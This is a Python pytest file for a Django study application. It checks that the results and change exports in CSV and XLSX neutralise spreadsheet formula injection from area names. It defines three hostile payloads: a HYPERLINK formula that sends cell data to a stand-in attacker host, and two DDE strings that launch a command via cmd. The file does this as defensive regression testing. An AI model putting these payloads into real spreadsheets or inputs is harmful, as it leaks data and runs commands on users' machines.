"""Formula-safe results and change exports (issue 10, finding 5): an area named
``=HYPERLINK(…)`` was written as a live formula into the results CSV/XLSX and the change exports."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from .channels import csv_rows
from .factories import add_responses, answers, make_round, make_study

EVIL = '=HYPERLINK("https://angriber.example/?d="&A1,"Klik her")'
EVIL_PLUS = "+1+cmd|' /C calc'!A0"
EVIL_AT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_study(db):
    study = make_study(k=5)
    for number in (1, 2):
        rnd = make_round(study, number=number)
        add_responses(rnd, None, answers(3, 4) + answers(4, 3), area=EVIL)
        add_responses(rnd, None, answers(2, 4) + answers(3, 3), area=EVIL_PLUS)
        add_responses(rnd, None, answers(2, 3) + answers(4, 3), area=EVIL_AT)
    return study


def _csv_groups(body: bytes) -> set[str]:
    return {r["group"] for r in csv_rows(body.decode("utf-8-sig"))}


def _no_formula(content: bytes) -> list[str]:
    """Every text cell of the workbook; fails on any cell stored as a formula."""
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("view", ["analysis:export", "analysis:change_export"])
def test_csv_exports_neutralise_formulas(hostile_study, board_client, view):
    body = board_client.get(reverse(view, args=[hostile_study.pk, "csv"])).content
    groups = _csv_groups(body)
    for evil in (EVIL, EVIL_PLUS, EVIL_AT):
        assert "'" + evil in groups, groups
        assert evil not in groups
    for line in body.decode("utf-8-sig").splitlines()[1:]:
        for field in next(csv.reader([line], delimiter=";")):
            assert not field.startswith(("=", "+", "@")), field


@pytest.mark.parametrize("view", ["analysis:export", "analysis:change_export"])
def test_xlsx_exports_keep_the_text_and_never_a_formula(hostile_study, board_client, view):
    content = board_client.get(reverse(view, args=[hostile_study.pk, "xlsx"])).content
    texts = _no_formula(content)
    assert EVIL in texts  # the text is kept exactly, as a string cell


def test_negative_numbers_stay_numbers_in_the_change_csv(hostile_study, board_client):
    body = board_client.get(reverse("analysis:change_export", args=[hostile_study.pk, "csv"]))
    rows = csv_rows(body.content.decode("utf-8-sig"))
    deltas = [r["delta"] for r in rows if r["delta"]]
    assert deltas and all(float(d) == float(d) for d in deltas)
